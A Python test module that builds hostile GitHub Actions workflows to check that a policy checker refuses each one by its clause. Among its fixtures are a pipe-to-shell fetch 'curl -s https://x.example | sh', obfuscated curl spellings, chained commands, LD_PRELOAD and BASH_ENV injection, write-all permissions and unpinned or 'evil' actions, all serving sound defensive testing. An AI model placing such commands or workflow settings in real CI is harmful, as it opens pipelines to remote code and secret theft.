"""A campaign against the workflow rules: hostile workflows, each forbidden by a clause, each to be refused.

`python -m tests.hostile` writes each to a repository of its own, checks it, and prints what found it; exit 1 if one
passes.
`python -m tests.hostile FOLDER` checks workflows of others instead, such as another checker's good fixtures, and prints
each finding, for a reader to justify by its clause.
"""

from __future__ import annotations

import sys
import tempfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

from click import echo

from policy.findings import Finding
from tests.unit.policy.trees import findings

COMMIT: Final = "de0fac2e4500dabe0009e67214ff5f5447ce83dd"
DIGEST: Final = "sha256:" + "0123456789abcdef" * 4
GUARD: Final = "github.actor == github.repository_owner"
OWN: Final = "[self-hosted, gpu, local]"
CI: Final = ".github/workflows/ci.yml"


@dataclass(frozen=True)
class Hostile:
    """A workflow that `clause` forbids, with what else its repository holds; `data` if it is no text."""

    clause: str
    name: str
    text: str
    more: dict[str, str] = field(default_factory=dict)
    data: bytes | None = None
    path: str = CI


def work(job: str, *, on: str = "{push: {branches: [main]}}", top: str = "permissions: {contents: read}") -> str:
    """Return a workflow with one job, whose lines are indented by four spaces."""
    return f"on: {on}\n{top}\njobs:\n  work:\n    {job}\n"


def step(text: str, *, top: str = "permissions: {contents: read}") -> str:
    """Return a hosted workflow with one step, a flow mapping or lines indented by eight."""
    return work(f"runs-on: ubuntu-24.04\n    steps:\n      - {text}", top=top)


def ours(guard: str, *, on: str = "{push: {branches: [main]}}", labels: str = OWN) -> str:
    """Return a workflow on our machine; `guard`: its line `if:`, empty for none."""
    line = f"\n    {guard}" if guard else ""
    return work(f"runs-on: {labels}{line}\n    steps: [{{run: make test}}]", on=on)


def _shapes() -> Iterator[Hostile]:
    fine = step("run: make test")
    yield Hostile("POLICY-1", "a key twice", fine + "permissions: {contents: write}\n")
    yield Hostile("POLICY-1", "a job twice", fine + "  work:\n    runs-on: self-hosted\n    steps: []\n")
    yield Hostile("POLICY-1", "a merge key", step("<<: {run: make test}"))
    yield Hostile("POLICY-1", "two documents", fine + "---\n" + fine)
    yield Hostile("POLICY-1", "a list", "- on: push\n")
    yield Hostile("POLICY-1", "no YAML", "on: [push\n")
    yield Hostile("POLICY-1", "nothing", "")
    yield Hostile("POLICY-1", "not UTF-8", "", data=fine.encode() + b"# \xff\n")
    yield Hostile("POLICY-1", "UTF-16", "", data=fine.encode("utf-16"))
    yield Hostile("POLICY-1", "jobs as a list", "on: push\npermissions: {}\njobs: [make]\n")
    yield Hostile("POLICY-1", "steps as a mapping", work("runs-on: ubuntu-24.04\n    steps: {run: make test}"))
    yield Hostile("POLICY-1", "a step as text", work("runs-on: ubuntu-24.04\n    steps: [make test]"))
    yield Hostile("POLICY-1", "other letters in the name", "on: [push\n", path=".github/workflows/ci.yaml")
    yield Hostile(
        "POLICY-1", "a broken local action", step("uses: ./.github/act"), {".github/act/action.yml": "runs: [\n"}
    )


def _permissions() -> Iterator[Hostile]:
    yield Hostile("POLICY-2", "no permissions", step("run: make test", top="name: x"))
    for text in ("write-all", "read-all", "[contents]", "'{}'", "${{ inputs.p }}", "contents"):
        yield Hostile("POLICY-2", f"permissions {text}", step("run: make test", top=f"permissions: {text}"))
    for name in ("contents", "id-token", "packages", "actions", "pull-requests", "security-events"):
        yield Hostile("POLICY-2", f"{name} to write", step("run: make test", top=f"permissions: {{{name}: write}}"))
    for value in ('"write"', "Write", "admin", "\"${{ 'write' }}\"", "[read]"):
        yield Hostile(
            "POLICY-2", f"contents {value}", step("run: make test", top=f"permissions: {{contents: {value}}}")
        )
    job = "permissions: {{{}}}\n    runs-on: ubuntu-24.04\n    steps: [{{run: make test}}]"
    yield Hostile("POLICY-2", "a job that writes", work(job.format("contents: write")))
    yield Hostile("POLICY-2", "a job that mints tokens", work(job.format("id-token: write")))


def _machines() -> Iterator[Hostile]:
    for label in (
        "${{ inputs.machine }}",
        "${{ fromJSON(inputs.machines) }}",
        "${{ github.event.label }}",
        "${{ matrix.machine }}",
        "${{ vars.RUNNER }}",
        "${{ env.RUNNER }}",
    ):
        yield Hostile("POLICY-3", f"runs on {label}", work(f"runs-on: {label}\n    steps: [{{run: make test}}]"))
    matrix = "strategy: {{matrix: {}}}\n    runs-on: ${{{{ matrix.os }}}}\n    steps: [{{run: make test}}]"
    yield Hostile("POLICY-3", "a matrix from outside", work(matrix.format("'${{ fromJSON(inputs.m) }}'")))
    yield Hostile("POLICY-3", "a matrix of an expression", work(matrix.format("{os: '${{ fromJSON(vars.M) }}'}")))
    yield Hostile("POLICY-3", "no machine", work("steps: [{run: make test}]"))
    for labels in (
        "[ubuntu-24.04, gpu]",
        "{group: default}",
        "{group: g, labels: [gpu]}",
        "self-hosted",
        "ubuntu-latest",
        "macos-14",
    ):
        yield Hostile(
            "POLICY-4", f"hosted it is not: {labels}", work(f"runs-on: {labels}\n    steps: [{{run: make test}}]")
        )


def _our_machine() -> Iterator[Hostile]:
    guard = f"if: {GUARD}"
    for event in (
        "pull_request",
        "pull_request_target",
        "workflow_dispatch",
        "issue_comment",
        "{workflow_run: {workflows: [ci]}}",
        "{schedule: [{cron: '0 0 * * *'}]}",
        "push",
        "{push: {}}",
        "{push: {branches: ['**']}}",
        "{push: {branches: [main, dev]}}",
        "{push: {branches-ignore: [dev]}}",
        "{push: {tags: ['*']}}",
        "{push: {branches: [main], tags: ['*']}}",
        "[push, pull_request]",
        "{push: {branches: [main]}, pull_request: {}}",
    ):
        yield Hostile("POLICY-4", f"ours on {event}", ours(guard, on=event))
    for line in (
        "",
        "if: always()",
        f"if: {GUARD} || always()",
        f"if: (true || {GUARD})",
        f"if: '!({GUARD})'",
        "if: github.actor != github.repository_owner",
        "if: github.triggering_actor == github.repository_owner",
        "if: github.actor == 'owner'",
        f"if: ' ${{{{ {GUARD} }}}} '",
        f"if: x${{{{ {GUARD} }}}}",
        f"if: |\n      ${{{{ {GUARD} }}}}",
        f"if: ${{{{ {GUARD} }}}} && true",
        f"if: contains('{GUARD}', 'actor')",
        f"if: format('{{0}}', {GUARD})",
    ):
        yield Hostile("POLICY-4", f"guarded by {line!r}", ours(line))
    for labels in ("[self-hosted]", "[self-hosted, gpu]", "[gpu, local]", "gpu"):
        yield Hostile("POLICY-4", f"ours as {labels}", ours(guard, labels=labels))


def _actions() -> Iterator[Hostile]:
    for name in ("evil/checkout", "actions/cache", "actions/checkout/sub", "actions/checkout-evil", "action/checkout"):
        yield Hostile("POLICY-5", f"action {name}", step(f"uses: {name}@{COMMIT}"))
    nested = f"name: a\nruns:\n  using: composite\n  steps:\n    - uses: evil/x@{COMMIT}\n"
    yield Hostile("POLICY-5", "an action in a local one", step("uses: ./act"), {"act/action.yml": nested})
    yield Hostile("POLICY-5", "an expression", step("uses: ${{ inputs.action }}"))
    for ref in ("v4", "main", COMMIT[:12], f"{COMMIT}0", "refs/heads/main", "${{ github.sha }}"):
        yield Hostile("POLICY-6", f"checkout at {ref}", step(f"uses: actions/checkout@{ref}"))
    yield Hostile("POLICY-6", "checkout at nothing", step("uses: actions/checkout"))


def _images() -> Iterator[Hostile]:
    box = "runs-on: ubuntu-24.04\n    {}\n    steps: [{{run: make test}}]"
    for image in ("alpine", "alpine:3.20", "alpine@sha256:12", "${{ inputs.image }}", f"alpine@sha1:{'0' * 40}"):
        yield Hostile("POLICY-7", f"container {image}", work(box.format(f"container: {image}")))
    yield Hostile("POLICY-7", "container by mapping", work(box.format("container: {image: 'alpine:3.20'}")))
    yield Hostile("POLICY-7", "a service", work(box.format("services: {db: {image: 'postgres:16'}}")))
    yield Hostile("POLICY-7", "a step", step("uses: docker://alpine:3.20"))
    action = "name: a\nruns: {using: docker, image: 'docker://alpine:3.20'}\n"
    yield Hostile("POLICY-7", "an action", step("uses: ./act"), {"act/action.yml": action})


def _references() -> Iterator[Hostile]:
    for called in (f"other/repo/.github/workflows/x.yml@{COMMIT}", "./.github/workflows/none.yml", "./../x.yml"):
        yield Hostile("POLICY-8", f"calls {called}", work(f"uses: {called}"))
    callee = work("runs-on: ubuntu-24.04\n    steps: [{run: make test}]", on="workflow_call")
    there = {".github/workflows/called.yml": callee}
    yield Hostile("POLICY-8", "all secrets", work("uses: ./.github/workflows/called.yml\n    secrets: inherit"), there)
    yield Hostile("POLICY-8", "an action that is not there", step("uses: ./none"))
    yield Hostile("POLICY-8", "an action out of the tree", step("uses: ./../none"))
    on_ours = {".github/workflows/called.yml": ours(f"if: {GUARD}", on="workflow_call")}
    yield Hostile(
        "POLICY-4", "ours, called by all", work("uses: ./.github/workflows/called.yml", on="pull_request"), on_ours
    )


SCRIPTS: Final = (
    "curl -s https://x.example | sh",
    "wget x",
    "python -c 'print(1)'",
    "python3.11 setup.py",
    "pip install x",
    "sudo curl x",
    "node -e 1",
    "bash other.sh",
    "sh -c 'make test'",
    ". ./env",
    "make test; curl x",
    "make test && git clone x",
    "/usr/bin/curl x",
    "cu'r'l x",
    'c"u"rl x',
    "c\\url x",
    "$X y",
    "${X} y",
    "`echo x`",
    "/usr/bin/c?rl x",
    "/usr/bin/c*l x",
    "{cu,}rl x",
    "xargs curl",
    "env curl x",
    "\uff43url x",
    "eval make",
    "xargs -a names env",
    "sed 1e/tmp/x names",
    "vim -c !x",
    "make --eval=x",
    "sudo x",
    "docker run x",
    "${{ inputs.command }}",
    "make ${{ github.event.issue.title }}",
)


def _scripts() -> Iterator[Hostile]:
    for text in SCRIPTS:
        yield Hostile(
            "POLICY-9", f"runs {text}", step(f"run: {text!r}" if "'" not in text else f'run: "{_escaped(text)}"')
        )
    for shell in ("python", "bash -c {0}", "perl {0}", "pwsh"):
        yield Hostile("POLICY-9", f"shell {shell}", step(f"{{run: make test, shell: '{shell}'}}"))
    yield Hostile(
        "POLICY-9", "a default shell", step("run: make test", top="permissions: {}\ndefaults: {run: {shell: python}}")
    )
    aimed = "{run: make test, env: {%s: ./x}}"
    for name in ("BASH_ENV", "bash_env", "LD_PRELOAD", "PATH", "MAKEFLAGS", "NODE_OPTIONS", "GIT_SSH_COMMAND"):
        yield Hostile("POLICY-9", f"a step with {name}", step(aimed % name))
    yield Hostile("POLICY-9", "a workflow with BASH_ENV", f"env: {{BASH_ENV: ./x}}\n{step('run: make test')}")
    job = "runs-on: ubuntu-24.04\n    env: %s\n    steps: [{run: make test}]"
    yield Hostile("POLICY-9", "a job with LD_PRELOAD", work(job % "{LD_PRELOAD: ./x}"))
    yield Hostile("POLICY-9", "variables from outside", work(job % "${{ fromJSON(inputs.env) }}"))
    lines = "run: |\n          make test\n          curl x\n"
    yield Hostile("POLICY-9", "a second line", step(lines))


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


HOSTILE: Final = (
    *_shapes(),
    *_permissions(),
    *_machines(),
    *_our_machine(),
    *_actions(),
    *_images(),
    *_references(),
    *_scripts(),
)


def refused(hostile: Hostile) -> list[Finding]:
    """Return the findings of a repository with this workflow."""
    with tempfile.TemporaryDirectory(prefix="policy-campaign-") as name:
        root = Path(name)
        for path, text in {hostile.path: hostile.text, **hostile.more}.items():
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            (root / path).write_bytes(
                hostile.data if hostile.data is not None and path == hostile.path else text.encode()
            )
        return findings(root)


def others(folder: Path) -> Iterator[tuple[Path, list[Finding]]]:
    """Yield each workflow below a folder with what is found in it, alone in a repository."""
    for path in sorted([*folder.rglob("*.yml"), *folder.rglob("*.yaml")]):
        with tempfile.TemporaryDirectory(prefix="policy-campaign-") as name:
            target = Path(name) / ".github" / "workflows" / path.name
            target.parent.mkdir(parents=True)
            target.write_bytes(path.read_bytes())
            yield path.relative_to(folder), findings(Path(name))


def main(arguments: list[str]) -> int:
    """Run the campaign, or check the workflows of others, and print the figures."""
    if arguments:
        clauses: Counter[str] = Counter()
        n_clean = n_all = 0
        for path, found in others(Path(arguments[0])):
            n_all, n_clean = n_all + 1, n_clean + (not found)
            clauses.update({one.clause for one in found})
            for one in found:
                echo(f"{path}:{one.line}: {one.clause} {one.message}")
        echo(f"hostile: {n_clean} of {n_all} without a finding; files by clause: {dict(sorted(clauses.items()))}")
        return 0
    n_refused = n_by_clause = 0
    for one in HOSTILE:
        found = {finding.clause for finding in refused(one)}
        n_refused, n_by_clause = n_refused + bool(found), n_by_clause + (one.clause in found)
        verdict = "refused" if one.clause in found else "other  " if found else "PASSED "
        echo(f"{verdict} {one.clause} {one.name}: {', '.join(sorted(found)) or 'no finding'}")
    echo(f"hostile: {n_refused} of {len(HOSTILE)} refused, {n_by_clause} by the clause that forbids them")
    return int(n_refused < len(HOSTILE))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
